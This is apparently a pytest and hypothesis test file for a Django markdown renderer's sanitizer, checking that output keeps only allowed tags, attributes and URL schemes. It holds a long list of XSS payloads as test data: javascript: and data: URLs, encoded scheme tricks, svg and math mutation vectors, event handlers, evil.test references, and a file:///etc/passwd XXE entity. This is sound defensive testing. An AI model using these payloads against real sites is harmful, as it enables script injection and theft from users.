"""Whatever is typed, what comes out is harmless and asks nothing of another host."""

import itertools
import re
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st

from articles.markdown import ATTRIBUTES, SCHEMES, TAGS, render, render_words


class Reader(HTMLParser):
    """What a browser would make of it: tags with their attributes."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS, html
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}, html
        assert scheme(attributes.get("href", "")) in SCHEMES | {""}, html


def scheme(address: str) -> str:
    """As a browser finds it: without tabs and newlines, and control characters before it."""
    address = re.sub(r"[\t\r\n]", "", address).lstrip("".join(map(chr, range(33))))
    found = re.match(r"([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
    return found.group(1).lower() if found else ""


def test_the_scheme_is_found_as_a_browser_finds_it():
    assert scheme(" \x01java\tscript\n:x") == scheme("JavaScript:x") == "javascript"
    assert scheme("/a:b") == scheme("%6aavascript:x") == scheme("java script:x") == ""


URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&#58;alert(1)",
    "\x01javascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.test/1",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)",
    "ftp://evil.test",
    "about:blank",
    "javascript://evil.test/%0aalert(1)",
    "%6aavascript:alert(1)",
    "javascript%3Aalert(1)",
]
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "[x][r]\n\n[r]: {}",
    "<{}>",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.test/x.png>",
    "![x](https://evil.test/x.png)",
    "![x](javascript:alert(1))",
    "![x][r]\n\n[r]: https://evil.test/x.png",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<picture><source srcset=//evil.test/x></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href=//evil.test/x#y></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.test/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<p style='background:url(//evil.test/x)'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<p ONMOUSEOVER=alert(1)>x</p>",
    "<a href=https://ok.test onfocus=alert(1) autofocus>x</a>",
    "<a href=https://ok.test ping=//evil.test>x</a>",
    "<a href=https://ok.test target=_blank>x</a>",
    "<a href=https://ok.test style=position:fixed;inset:0>x</a>",
    "<a id=x name=getElementById class=y>x</a>",
    "<body onload=alert(1)>",
    "<html manifest=//evil.test>",
    "<form action=//evil.test><input name=password><button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video src=//evil.test/x poster=//evil.test/y><track src=//evil.test/z></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=//evil.test/x><td background=//evil.test/y>x</table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<del cite=javascript:alert(1) onclick=alert(1)>x</del>",
    "<ol start='1\" onclick=alert(1) x=\"'><li>x</ol>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<frameset><frame src=javascript:alert(1)>",
    "<bgsound src=//evil.test/x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    '[x](https://ok.test "onclick=alert(1)")',
    "[x](https://ok.test '\"><script>alert(1)</script>')",
    '[x](https://ok.test/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://ok.test)",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <iframe src=//evil.test>\n- x",
    "> <script>alert(1)</script>",
    "<p><a href='javascript:alert(1)'><b><i>x</p>",
    "<a <b href=javascript:alert(1)>x",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<a/href=javascript:alert(1)>x</a>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "*<b onclick=alert(1)>x*</b>",
    "**<script>**alert(1)**</script>**",
    "[[x](javascript:alert(1))](javascript:alert(2))",
    "[x](javascript:alert(1)) <https://ok.test>",
    "<javascript:alert(1)@ok.test>",
    "<mailto:x@ok.test?body=%0aalert(1)>",
]
ATTACKS = MARKUP + [link.format(url) for link, url in itertools.product(LINKS, URLS)]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_survives(text):
    assert_harmless(render(text))
    assert_harmless(render_words(text))


@pytest.mark.parametrize("text", MARKUP)
def test_attacks_survive_nesting_no_better(text):
    for around in (
        "> {}",
        "- {}\n- b",
        "# {}",
        "**{}**",
        "<div>\n{}\n</div>",
        "<table>{}",
        "{0}{0}",
    ):
        assert_harmless(render(around.format(text)))


def test_only_links_lead_to_other_hosts():
    assert TAGS.isdisjoint({"img", "iframe", "video", "audio", "svg", "style", "link", "script"})
    assert {"href"} == set.union(*ATTRIBUTES.values()) - {"title", "start"}


MARKS = st.text(alphabet="<>&;:\"'/=#![]()*_`|-+.~\\ \nabjx1\t\u00a0", max_size=120)
PIECES = st.lists(st.sampled_from(ATTACKS) | MARKS, max_size=4).map("".join)


@given(PIECES)
def test_mixtures_of_attacks_are_harmless_or_refused(text):
    try:
        html = render(text)
    except ValidationError:
        return
    assert_harmless(html)
